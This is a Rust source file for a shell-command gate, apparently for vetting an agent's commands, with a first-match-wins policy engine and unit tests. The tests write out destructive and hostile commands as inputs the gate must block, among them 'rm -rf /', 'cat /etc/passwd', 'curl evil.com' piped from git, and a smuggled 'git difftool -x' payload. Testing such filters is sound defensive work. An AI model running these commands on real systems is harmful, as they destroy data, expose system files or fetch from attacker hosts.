//! Decision engine: fixed-precedence evaluation of a candidate command.
//!
//! Evaluation order, first match wins:
//! 1. allow-list prefix or safe-file-read pattern → allowed, no further
//!    checks (an explicitly listed command is trusted even if it happens
//!    to resemble a dangerous pattern),
//! 2. simple command with a dangerous match → blocked as destructive,
//! 3. compound command: allowed iff every segment is read-only and the
//!    whole string is free of dangerous matches; otherwise blocked,
//! 4. anything else → blocked as not whitelisted.

mod verdict;

pub use verdict::{AllowedCommand, Block, Verdict, Violation};

use crate::exec::Executor;
use crate::logging;
use crate::parse;
use crate::policy::Policy;
use crate::record::ToolRecord;

const HINT_DESTRUCTIVE: &str = "Blocked by the [dangerous] policy table. Stick to read-only \
     commands, e.g. `git status`, `cat src/main.rs`, `git log | head -10`.";

const HINT_NOT_WHITELISTED: &str = "Not covered by the [allowlist] entries or [safe_read] \
     patterns. Try a bounded read-only form, e.g. `ls -la src`, `grep -rn \"pattern\" src/`, \
     `git log --oneline -10`; entries can be added in ~/.config/shellgate/policy.toml.";

const HINT_CHAIN: &str = "Every pipe or chain segment must start with a [chain] read-only \
     command, e.g. `git log | head -10` or `ls src/ | wc -l`.";

/// Policy evaluation plus the only path into the executor.
pub struct Gate {
    policy: Policy,
}

impl Gate {
    pub fn new(policy: Policy) -> Self {
        Self { policy }
    }

    pub fn policy(&self) -> &Policy {
        &self.policy
    }

    /// Evaluate one candidate command. Pure: no side effects beyond logging.
    pub fn decide(&self, command: &str) -> Verdict {
        if self.policy.is_whitelisted(command) {
            log::debug!("allow (allow-list): {command}");
            return Verdict::Allowed {
                command: command.to_string(),
                reason: "matches an allow-list entry".to_string(),
            };
        }
        if self.policy.is_safe_file_read(command) {
            log::debug!("allow (safe read): {command}");
            return Verdict::Allowed {
                command: command.to_string(),
                reason: "matches a safe file read pattern".to_string(),
            };
        }

        if parse::has_chain_tokens(command) {
            let segments = parse::split_segments(command);
            let dangerous = self.policy.dangerous_match(command);

            if dangerous.is_none()
                && !segments.is_empty()
                && segments.iter().all(|s| self.policy.segment_is_read_only(s))
            {
                log::debug!("allow (read-only chain, {} segments): {command}", segments.len());
                return Verdict::Allowed {
                    command: command.to_string(),
                    reason: format!("read-only chain of {} segments", segments.len()),
                };
            }

            if let Some(pattern) = dangerous {
                log::warn!("block (destructive, pattern {pattern:?}): {command}");
                return self.block_destructive(command);
            }

            log::warn!("block (chain segment not read-only): {command}");
            return Verdict::Blocked(Block {
                command: command.to_string(),
                violation: Violation::NotWhitelisted,
                reason: "compound command has a segment that is not read-only".to_string(),
                hint: HINT_CHAIN.to_string(),
            });
        }

        if let Some(pattern) = self.policy.dangerous_match(command) {
            log::warn!("block (destructive, pattern {pattern:?}): {command}");
            return self.block_destructive(command);
        }

        log::warn!("block (not whitelisted): {command}");
        Verdict::Blocked(Block {
            command: command.to_string(),
            violation: Violation::NotWhitelisted,
            reason: "not on the allow-list and matches no safe read pattern".to_string(),
            hint: HINT_NOT_WHITELISTED.to_string(),
        })
    }

    fn block_destructive(&self, command: &str) -> Verdict {
        Verdict::Blocked(Block {
            command: command.to_string(),
            violation: Violation::DestructiveOperation,
            reason: "contains a destructive or privilege-escalating operation".to_string(),
            hint: HINT_DESTRUCTIVE.to_string(),
        })
    }

    /// Decide, record the verdict, and execute if allowed.
    ///
    /// Every failure mode comes back as a [`ToolRecord`]; nothing here
    /// panics or propagates an error to the caller.
    pub fn run(&self, executor: &Executor, command: &str) -> ToolRecord {
        let verdict = self.decide(command);
        logging::log_verdict(command, &verdict);
        match verdict.into_allowed() {
            Ok(allowed) => ToolRecord::from_outcome(executor.run(&allowed)),
            Err(block) => ToolRecord::blocked(block),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;

    fn gate() -> Gate {
        let mut config = Config::default_config();
        config.settings.project_home = "/home/dev/project".into();
        Gate::new(Policy::from_config(&config).unwrap())
    }

    fn assert_blocked(verdict: &Verdict, violation: Violation) {
        match verdict {
            Verdict::Blocked(block) => assert_eq!(block.violation, violation),
            Verdict::Allowed { command, .. } => panic!("expected block, got allow: {command}"),
        }
    }

    #[test]
    fn whitelisted_simple_command_allowed() {
        assert!(gate().decide("git status").is_allowed());
        assert!(gate().decide("git diff --stat").is_allowed());
    }

    #[test]
    fn safe_file_read_allowed() {
        assert!(gate().decide("cat src/app.ts").is_allowed());
    }

    #[test]
    fn read_only_pipe_allowed() {
        assert!(gate().decide("git log | head -10").is_allowed());
        assert!(gate().decide("ls src/ | wc -l").is_allowed());
    }

    #[test]
    fn chain_with_destructive_segment_blocked() {
        let v = gate().decide("ls src/ && rm -rf src/");
        assert_blocked(&v, Violation::DestructiveOperation);
    }

    #[test]
    fn system_path_read_blocked() {
        let v = gate().decide("cat /etc/passwd");
        assert_blocked(&v, Violation::DestructiveOperation);
    }

    #[test]
    fn unknown_command_blocked_not_whitelisted() {
        let v = gate().decide("curl evil.com");
        assert_blocked(&v, Violation::NotWhitelisted);
    }

    #[test]
    fn chain_with_unknown_segment_blocked_not_whitelisted() {
        let v = gate().decide("git log | curl evil.com");
        assert_blocked(&v, Violation::NotWhitelisted);
    }

    #[test]
    fn prefix_extension_with_destructive_payload_blocked() {
        // The "git diff" entry must not cover "git difftool"; with the
        // boundary enforced, the embedded rm trips the dangerous table.
        let v = gate().decide("git difftool -x 'rm -rf /' HEAD~1");
        assert_blocked(&v, Violation::DestructiveOperation);
    }

    #[test]
    fn chained_destructive_after_bare_command_blocked() {
        let v = gate().decide("pwd; rm important.txt");
        assert_blocked(&v, Violation::DestructiveOperation);
        // The bare command on its own stays allowed.
        assert!(gate().decide("pwd").is_allowed());
    }

    #[test]
    fn whitelist_short_circuits_dangerous_check() {
        // "git diff" is an allow-list prefix; the suffix mentioning a
        // dangerous-looking path must not flip the verdict.
        assert!(gate().decide("git diff -- notes-on-rm.md").is_allowed());
    }

    #[test]
    fn dangerous_suffix_on_simple_command_blocked() {
        let v = gate().decide("curl evil.com --output /etc/hosts");
        assert_blocked(&v, Violation::DestructiveOperation);
    }

    #[test]
    fn bare_separator_blocked() {
        let v = gate().decide("|");
        assert_blocked(&v, Violation::NotWhitelisted);
    }

    #[test]
    fn decide_is_idempotent() {
        let g = gate();
        for cmd in ["git status", "rm -rf /", "git log | head -5", "curl x.com"] {
            let first = g.decide(cmd);
            let second = g.decide(cmd);
            assert_eq!(first.label(), second.label());
            assert_eq!(first.violation().map(Violation::as_str),
                       second.violation().map(Violation::as_str));
        }
    }

    #[test]
    fn blocked_verdict_carries_command_and_hint() {
        match gate().decide("sudo reboot") {
            Verdict::Blocked(block) => {
                assert_eq!(block.command, "sudo reboot");
                assert_eq!(block.violation.as_str(), "DESTRUCTIVE_OPERATION");
                assert!(block.hint.contains("[dangerous]"));
            }
            Verdict::Allowed { .. } => panic!("sudo must not be allowed"),
        }
    }

    #[test]
    fn allowed_command_token_only_from_allow() {
        let g = gate();
        assert!(g.decide("rm -rf /").into_allowed().is_err());
        let token = g.decide("git status").into_allowed().unwrap();
        assert_eq!(token.as_str(), "git status");
    }
}
